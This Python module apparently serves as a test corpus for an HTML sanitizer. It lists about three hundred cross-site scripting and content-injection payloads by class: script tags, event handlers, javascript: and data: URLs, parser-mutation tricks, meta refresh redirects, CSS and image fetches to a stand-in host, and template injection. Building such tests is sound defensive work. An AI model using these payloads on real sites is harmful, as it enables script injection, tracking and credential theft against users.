"""What a letter may try: about three hundred ways to run a script, to fetch from outside, or to lead away.

Every one of our own writing, by class. `RUN` writes a word to the console, which every document
may do wherever it stands; `OUT` is a place outside. What runs or fetches in a browser without our
walls is found by the positive control, so that a list of duds would fail.
"""

from base64 import b64encode

SAID = "letter-ran"
RUN = f"console.log('{SAID}')"
OUT = "http://out.test/x"
DATA = "data:text/html;base64," + b64encode(f"<script>{RUN}</script>".encode()).decode()
DATA_SVG = (
    "data:image/svg+xml;base64,"
    + b64encode(
        f'<svg xmlns="http://www.w3.org/2000/svg" onload="{RUN}"><script>{RUN}</script></svg>'.encode()
    ).decode()
)
CODES = "".join(f"&#{ord(letter)};" for letter in "javascript:")

SCRIPTS = [
    f"<script>{RUN}</script>",
    f"<SCRIPT>{RUN}</SCRIPT>",
    f"<script\n>{RUN}</script\n>",
    f"<script/x>{RUN}</script>",
    f"<script src='{OUT}.js'></script>",
    "<script src='//out.test/x.js'></script>",
    f"<script type=module>{RUN}</script>",
    f"<script type=module src='{OUT}.mjs'></script>",
    f"<script><!--\n{RUN}\n--></script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<script>{RUN}",
    f"<noscript><p title='</noscript><script>{RUN}</script>'>",
    f"<script type='text/javascript'>{RUN};//</script>",
    f"<script language=javascript>{RUN}</script>",
    f"<script defer src='{DATA.replace('text/html', 'text/javascript')}'></script>",
    f"<script nonce='' integrity=''>{RUN}</script>",
    f"<table><tr><td><script>{RUN}</script></table>",
    f"<template><script>{RUN}</script></template><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"--><script>{RUN}</script><!--",
    f"]]><script>{RUN}</script>",
    f"\"'><script>{RUN}</script>",
    f"\x00<scr\x00ipt>{RUN}</script>",
    f"<script\x0c>{RUN}</script>",
    f"<script>import('{OUT}.mjs')</script>",
    f'<script>setTimeout("{RUN}")</script>',
]

_SELF_FIRING = {
    "img": "<img src=x onerror={}>",
    "img-set": "<img srcset=x onerror={}>",
    "image": "<image src=x onerror={}>",
    "picture": "<picture><source srcset=x><img onerror={} src=x></picture>",
    "body": "<body onload={}>",
    "body-show": "<body onpageshow={}>",
    "frameset": "<frameset onload={}>",
    "video": "<video><source onerror={} src=x></video>",
    "video-src": "<video src=x onerror={}></video>",
    "audio": "<audio src=x onerror={}></audio>",
    "track": "<video controls><track default src=x onerror={}></video>",
    "object": "<object data=x onerror={}></object>",
    "embed": "<embed src=x onerror={}>",
    "iframe": "<iframe onload={}></iframe>",
    "link": "<link rel=stylesheet href=x onerror={}>",
    "script": "<script src=x onerror={}></script>",
    "input": "<input type=image src=x onerror={}>",
    "focus": "<input autofocus onfocus={}>",
    "button": "<button autofocus onfocus={}>x</button>",
    "textarea": "<textarea autofocus onfocus={}></textarea>",
    "select": "<select autofocus onfocus={}></select>",
    "anchor": "<a href=# autofocus onfocus={}>x</a>",
    "tabindex": "<p tabindex=0 autofocus onfocus={}>x</p>",
    "details": "<details open ontoggle={}><summary>x</summary></details>",
    "marquee": "<marquee onstart={}>x</marquee>",
    "svg": "<svg onload={}></svg>",
    "svg-slash": "<svg/onload={}>",
    "svg-image": "<svg><image href=x onerror={}></svg>",
    "svg-animate": "<svg><animate onbegin={} attributeName=x dur=1s></svg>",
    "svg-set": "<svg><set onbegin={} attributeName=x></svg>",
    "style": "<style onload={}></style>",
    "animation": "<style>@keyframes a{{}}p{{animation:a 1s}}</style><p onanimationstart={}>x</p>",
    "transition": "<p style='transition:color 1s' ontransitionrun={}>x</p>",
    "dialog": "<dialog open ontoggle={}>x</dialog>",
    "popover": "<p popover onbeforetoggle={}>x</p><button popovertarget=x>x</button>",
    "custom": "<x-letter onfocus={} tabindex=0 autofocus>x</x-letter>",
}
HANDLERS = [
    form.format(value) for form in _SELF_FIRING.values() for value in (f'"{RUN}"', f'"&#x63;{RUN[1:]}"')
]

_EVENTS = (
    "click dblclick mousedown mouseup mouseover mouseenter mousemove mouseout wheel contextmenu keydown keyup"
    " keypress input change submit reset select focus blur focusin drag drop dragover copy cut paste"
    " pointerdown pointerover touchstart scroll auxclick beforeinput animationend transitionend"
)
_BY_HAND = _EVENTS.split()
BY_HAND = [f'<a href="#" on{event}="{RUN}" style="font-size:99px">Look</a>' for event in _BY_HAND]
BY_HAND += [f'<font ON{event.upper()}="{RUN}">Look</font>' for event in _BY_HAND[:12]]

_SCHEMES = [
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f" javascript:{RUN}",
    f"\x01javascript:{RUN}",
    f"java\tscript:{RUN}",
    f"java&#10;script:{RUN}",
    f"java&NewLine;script:{RUN}",
    f"javascript&colon;{RUN}",
    f"{CODES}{RUN}",
    f"javascript:/*--></title></style>*/{RUN}",
    f"javascript://out.test/%0a{RUN}",
    f"vbscript:{RUN}",
    DATA,
    f"data:text/html,<script>{RUN}</script>",
    f"data&colon;text/html,<script>{RUN}</script>",
    f"da\tta:text/html,<script>{RUN}</script>",
    f"\x01data:text/html,<script>{RUN}</script>",
    f"data:application/xhtml+xml,<html xmlns='http://www.w3.org/1999/xhtml'><script>{RUN}</script></html>",
    DATA_SVG,
    f"blob:{OUT}",
    f"filesystem:{OUT}",
    "view-source:http://out.test/",
]
_PLACES = [
    '<a href="{}">Look</a>',
    '<iframe src="{}"></iframe>',
    '<form action="{}"><button>Look</button></form>',
    '<object data="{}"></object>',
]
SCHEMES = [place.format(scheme.replace('"', "&quot;")) for place in _PLACES for scheme in _SCHEMES]
SCHEMES += [
    f'<embed src="{DATA}">',
    f'<svg><a href="javascript:{RUN}"><text y=20>Look</text></a></svg>',
    f'<svg><a xlink:href="javascript:{RUN}"><text y=20>Look</text></a></svg>',
    f'<math href="javascript:{RUN}">Look</math>',
    f'<math><mtext><a href="javascript:{RUN}">Look</a></mtext></math>',
    f'<button formaction="javascript:{RUN}" form=x>Look</button><form id=x></form>',
    f'<area href="javascript:{RUN}" shape=default><img usemap=#m src=x><map name=m></map>',
    f'<img src="{DATA_SVG}">',
    f'<svg><use href="{DATA_SVG}#x"></use></svg>',
    f'<a href="x" ping="{OUT}">Look</a>',
]

MUTATIONS = [
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={RUN}&gt;">',
    f'<svg></p><style><a id="</style><img src=1 onerror={RUN}>">',
    f'<math><annotation-xml encoding="text/html"><script>{RUN}</script></annotation-xml></math>',
    f'<svg><foreignObject><iframe srcdoc="<script>{RUN}</script>"></iframe></foreignObject></svg>',
    f"<svg><foreignObject><script>{RUN}</script></foreignObject></svg>",
    f"<svg><style><img src=x onerror={RUN}></style></svg>",
    f"<svg><title><style></title><img src=x onerror={RUN}></style></svg>",
    f"<svg><desc><script>{RUN}</script></desc></svg>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><script href='{DATA.replace('text/html', 'text/javascript')}'></script></svg>",
    f"<svg><script>//&NewLine;{RUN.replace(chr(39), '&apos;')}</script></svg>",
    f"<math><mi><style><!--</style></mi><img src=x onerror={RUN}>--></math>",
    f"<noscript><style></noscript><img src=x onerror={RUN}></style>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
    f"<table><math><select><mglyph><style></select><img src=x onerror={RUN}></style></math></table>",
    f"<select><style></select><script>{RUN}</script></style>",
    f"<xmp><p title='</xmp><img src=x onerror={RUN}>'>",
    f"<noembed><p title='</noembed><img src=x onerror={RUN}>'>",
    f"<noframes><p title='</noframes><img src=x onerror={RUN}>'>",
    f"<plaintext><script>{RUN}</script>",
    f"<title><p title='</title><img src=x onerror={RUN}>'>",
    f"<textarea><p title='</textarea><img src=x onerror={RUN}>'>",
    f"<!--><img src=x onerror={RUN}>-->",
    f"<!--!><img src=x onerror={RUN}>-->",
    f"<!-- --!><img src=x onerror={RUN}>-->",
    f"<![CDATA[<img src=x onerror={RUN}>]]>",
    f"<?xml version='1.0'?><img src=x onerror={RUN}>",
    f"<!DOCTYPE x [<!ENTITY y '<img src=x onerror={RUN}>'>]>&y;<img src=x onerror={RUN}>",
    f'<a title="`<img src=x onerror={RUN}>`">Look</a><img alt="`><script>{RUN}</script>">',
    f"<p title='&lt;/p&gt;&lt;img src=x onerror={RUN}&gt;'>x</p><img src=x onerror={RUN}>",
    f"<b <script>{RUN}</script>>x</b>",
    f'<img """><script>{RUN}</script>">',
    f"<img src='x'onerror='{RUN.replace(chr(39), '&#39;')}'>",
    f"<img/src=x/onerror={RUN}>",
    f"<img src=x onerror\x0b={RUN}><img src=x onerror\n=\n{RUN}>",
    "<div>" * 600 + f"<img src=x onerror={RUN}>",
    f"<a><b><i><p><a><img src=x onerror={RUN}></b></p></i></a>",
    f"＜script＞{RUN}＜/script＞<img src=x onerror={RUN}>",
    f"<svg><animate href=#a attributeName=href values=javascript:{RUN} />"
    "<a id=a><text y=20>Look</text></a></svg>",
    f"<template shadowrootmode=open><img src=x onerror={RUN}></template>",
    f"<div><template shadowrootmode=open><script>{RUN}</script></template></div>",
]

FRAMES = [
    f'<iframe srcdoc="<script>{RUN}</script>"></iframe>',
    f'<iframe srcdoc="&lt;script&gt;{RUN}&lt;/script&gt;"></iframe>',
    f'<iframe srcdoc="<img src=x onerror={RUN}>"></iframe>',
    f'<iframe sandbox="allow-scripts" srcdoc="<script>{RUN}</script>"></iframe>',
    f"<iframe src='{OUT}'></iframe>",
    f"<frameset><frame src='{OUT}'></frameset>",
    f"<object data='{OUT}.svg' type=image/svg+xml></object>",
    f"<object><param name=src value='{OUT}'><embed src='{OUT}.swf'></object>",
    f"<applet code=x archive='{OUT}.jar'></applet>",
    f"<portal src='{OUT}'></portal><iframe loading=eager src='//out.test/'></iframe>",
    f"<fencedframe src='{OUT}'></fencedframe><iframe src='{OUT}' name=x></iframe>",
]

LEADING_AWAY = [
    f'<meta http-equiv="refresh" content="0;url={OUT}">',
    f'<meta http-equiv="refresh" content="0; {OUT}">',
    f"<META HTTP-EQUIV=Refresh CONTENT=\"0;URL='{OUT}'\">",
    f'<meta http-equiv="refresh" content="0;url=javascript:{RUN}">',
    f'<meta http-equiv="refresh" content="0;url={DATA}">',
    '<meta http-equiv="refresh" content="0.1;URL=//out.test/">',
    f'<svg><foreignObject><meta http-equiv="refresh" content="0;url={OUT}"></foreignObject></svg>',
    f'<meta http-equiv="Set-Cookie" content="sessionid=1"><meta http-equiv="refresh" content="0;{OUT}">',
    f'<meta http-equiv="Content-Security-Policy" content="script-src *"><script>{RUN}</script>',
    f'<meta charset="utf-7"><p>+ADw-script+AD4-{RUN}+ADw-/script+AD4-</p><img src="{OUT}">',
    '<base href="http://out.test/"><img src="x.png"><script src="x.js"></script>',
    f'<base href="javascript:/a/-{RUN}//"><a href="x">Look</a>',
    f'<base target="_top"><meta http-equiv="refresh" content="0;url={OUT}">',
    f'<form action="{OUT}" id=f><input name=a value=b autofocus></form><button form=f>Look</button>',
    f'<form action="{OUT}" method=post target=_top><input type=submit value=Look></form>',
    f'<isindex action="{OUT}"><input formaction="{OUT}" type=image src="{OUT}.png">',
    f'<link rel="import" href="{OUT}"><link rel="prefetch" href="{OUT}">'
    f'<link rel=stylesheet href="{OUT}.css">',
    f'<link rel="preload" as=image href="{OUT}.png"><link rel="icon" href="{OUT}.ico">',
    f'<link rel="preconnect" href="http://out.test"><link rel="manifest" href="{OUT}">',
    f'<link rel="dns-prefetch" href="//out.test"><link rel="modulepreload" href="{OUT}.mjs">',
]

STYLES = [
    f'<p style="background:url({OUT})">x</p>',
    f'<p style="background-image:url(&quot;{OUT}&quot;)">x</p>',
    f"<p style=\"background:\\75rl('{OUT}')\">x</p>",
    f"<p style=\"background:image-set('{OUT}' 1x)\">x</p>",
    f'<p style="list-style-image:url({OUT});display:list-item">x</p>',
    f'<p style="border-image:url({OUT}) 1;border:9px solid">x</p>',
    f'<p style="cursor:url({OUT}),auto;content:url({OUT})">x</p>',
    f'<p style="mask-image:url({OUT});filter:url({OUT}#f);shape-outside:url({OUT})">x</p>',
    f'<p style="width:expression({RUN});behavior:url({OUT});-moz-binding:url({OUT})">x</p>',
    f'<p style="background:url(javascript:{RUN})">x</p><img src="{OUT}">',
    f'<p style="--a:url({OUT});background:var(--a)">x</p>',
    f"<style>@import '{OUT}.css';</style>",
    f"<style>@import url({OUT}.css);p{{background:url({OUT})}}</style><p>x</p>",
    f"<style>@font-face{{font-family:a;src:url({OUT}.woff)}}p{{font-family:a}}</style><p>x</p>",
    f"<style>p[title^=a]{{background:url({OUT})}}</style><p title=a>x</p>",
    f"<style>input[value^='a']{{background:url({OUT})}}</style><input value=a>",
    f"<svg><style>@import '{OUT}.css';</style><text>x</text></svg>",
    f'<div style="position:fixed;inset:0;z-index:9999;background:#fff url({OUT})">Sign in</div>',
    f"<table background='{OUT}'><tr><td background='{OUT}'>x</td></tr></table>",
    f"<body background='{OUT}'>x",
]

PICTURES = [
    f"<img src='{OUT}.png'>",
    "<img src='//out.test/x.png'>",
    "<img src='\\\\out.test\\x.png'>",
    "<img src='http:out.test/x.png'><img src='http:/\\out.test/x.png'>",
    f"<img srcset='{OUT}.png 1x, {OUT}-2.png 2x'>",
    f"<picture><source srcset='{OUT}.webp'><img></picture>",
    f"<video poster='{OUT}.png' src='{OUT}.mp4' autoplay></video>",
    f"<audio src='{OUT}.mp3' autoplay></audio>",
    f"<svg><image href='{OUT}.png' width=9 height=9></svg>",
    f"<svg><image xlink:href='{OUT}.png' width=9 height=9></svg>",
    f"<svg><filter id=f><feImage href='{OUT}.png'/></filter><rect filter=url(#f) width=9 height=9 /></svg>",
    f"<svg><use href='{OUT}.svg#x'></use></svg>",
    f"<input type=image src='{OUT}.png'>",
    f"<track src='{OUT}.vtt'><video src='{OUT}.webm' preload=auto></video>",
    f"<img src='cid:x\"onerror={RUN}'><img src='cid:&quot;><script>{RUN}</script>'><img src='{OUT}'>",
    f"<img src=x lowsrc='{OUT}.png' dynsrc='{OUT}.png'><img src='{OUT}?track=1' width=1 height=1>",
]

TEMPLATES = [
    "{{ 7|add:7 }}{% debug %}{% load static %}",
    "{{ request.user.password }}{{ settings.SECRET_KEY }}",
    "{% include 'desk/base.html' %}{% csrf_token %}",
    f"{{{{constructor.constructor(`{RUN}`)()}}}}",
    f"${{{RUN}}}<%= {RUN} %>#{{{RUN}}}",
    f"<p hx-get='{OUT}' hx-trigger='load'>x</p>",
    f"<p data-hx-get='{OUT}' data-hx-trigger='load'>x</p>",
    f"<p hx-on:load=\"{RUN}\" hx-trigger=load hx-get='/'>x</p>",
    f"<p hx-vals='js:{{a:{RUN}}}' hx-get='/' hx-trigger='load'>x</p>",
    f"<div data-live hx-get='{OUT}' hx-trigger='changed'></div><dialog open data-dialog=x>x</dialog>",
    f"<form method=post action='/look'><button autofocus onfocus={RUN}>x</button></form>",
    f'<p x-data x-init="{RUN}" v-html="\'{RUN}\'" ng-init="{RUN}">x</p><img src=x onerror={RUN}>',
]

CLASSES: dict[str, list[str]] = {
    "scripts": SCRIPTS,
    "handlers": HANDLERS,
    "by hand": BY_HAND,
    "schemes": SCHEMES,
    "mutations": MUTATIONS,
    "frames": FRAMES,
    "leading away": LEADING_AWAY,
    "styles": STYLES,
    "pictures": PICTURES,
    "templates": TEMPLATES,
}
PAYLOADS = [payload for payloads in CLASSES.values() for payload in payloads]
